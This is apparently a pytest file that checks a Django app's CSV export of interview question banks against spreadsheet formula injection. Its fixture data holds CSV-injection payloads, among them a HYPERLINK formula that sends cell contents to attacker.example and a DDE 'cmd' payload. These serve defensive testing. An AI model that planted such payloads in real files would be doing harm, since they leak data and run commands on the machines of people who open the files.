"""A bank exported as CSV opens in a spreadsheet as text, and still reads back as it was."""

import csv
import io

import pytest

from content.formats import document_parse
from content.models import ModelAnswer, Question, Topic

pytestmark = pytest.mark.django_db

# What a bank's author (any interviewer who publishes or shares a bank) may write.
TEXTS = [
    ('=HYPERLINK("http://attacker.example/?"&A1,"Docker")', "- a list\n- of two", "@SUM(1+1)"),
    ("+1 more question?", "-2+3+cmd|' /C calc'!A0", "'=already quoted"),
    ("''=twice quoted", "'not a formula", "plain"),
]


@pytest.fixture
def bank(db):
    topic = Topic.objects.create(name="Formulas", slug="formulas")
    for position, (text, expert, beginner) in enumerate(TEXTS, start=1):
        question = Question.objects.create(
            topic=topic, text=text, slug=f"formula-{position}", position=position
        )
        ModelAnswer.objects.create(question=question, level="expert", text=expert)
        ModelAnswer.objects.create(question=question, level="beginner", text=beginner)
    return topic


@pytest.fixture
def exported(client, make_interviewer, bank) -> str:
    client.force_login(make_interviewer("ivy"))
    response = client.get("/topics/formulas/export/csv/")
    assert response.status_code == 200
    return response.content.decode()


def test_no_cell_of_a_csv_export_starts_a_formula(exported):
    rows = list(csv.reader(io.StringIO(exported)))
    cells = [cell for row in rows[1:] for cell in row[:3]]
    assert len(cells) == 3 * len(TEXTS)
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_a_csv_export_reads_back_as_the_bank_has_it(exported):
    document = document_parse(exported, source="formulas.csv", format_name="csv")
    read = [(q.text, q.expert.text, q.beginner.text) for q in document.questions]
    assert read == TEXTS
